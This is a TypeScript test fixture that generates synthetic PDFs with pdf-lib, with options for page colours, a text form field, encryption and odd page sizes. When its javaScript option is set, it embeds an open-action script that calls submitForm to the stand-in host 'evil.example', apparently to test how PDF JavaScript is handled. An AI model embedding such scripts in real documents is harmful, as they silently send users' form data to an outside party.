import { PDFDocument, rgb } from '@cantoo/pdf-lib';

interface PdfOptions {
  readonly width?: number;
  readonly height?: number;
  /** Entered text of a form field. */
  readonly field?: string;
  readonly javaScript?: boolean;
  readonly password?: string;
  readonly ownerPassword?: string;
  readonly pages?: number;
  /** Colour of the last page's left half. */
  readonly lastPage?: 'red' | 'green';
  /** A page without a size. */
  readonly withoutSize?: number;
}

/** Red on the left, blue on the right. */
export async function pdf(options: PdfOptions = {}): Promise<Buffer> {
  const { width = 400, height = 300, pages = 1, lastPage = 'red', withoutSize } = options;
  const colours = { red: rgb(0.9, 0.1, 0.1), green: rgb(0.1, 0.9, 0.1) };
  const document = await PDFDocument.create();
  for (let index = 0; index < pages; index += 1) {
    const page = document.addPage(index + 1 === withoutSize ? [0.5, 0.5] : [width, height]);
    const leftColour = colours[index === pages - 1 ? lastPage : 'red'];
    page.drawRectangle({ x: 0, y: 0, width: width / 2, height, color: leftColour });
    page.drawRectangle({ x: width / 2, y: 0, width: width / 2, height, color: rgb(0.1, 0.1, 0.9) });
  }
  if (options.field !== undefined) {
    const field = document.getForm().createTextField('note');
    field.setText(options.field);
    field.addToPage(document.getPage(0), { x: 20, y: 20, width: 150, height: 60, backgroundColor: rgb(1, 1, 1) });
  }
  if (options.javaScript)
    document.addJavaScript('open', 'app.alert("hello"); this.submitForm("https://evil.example");');
  if (options.password !== undefined || options.ownerPassword !== undefined) {
    document.encrypt({ userPassword: options.password ?? '', ownerPassword: options.ownerPassword ?? 'owner' });
  }
  return Buffer.from(await document.save());
}
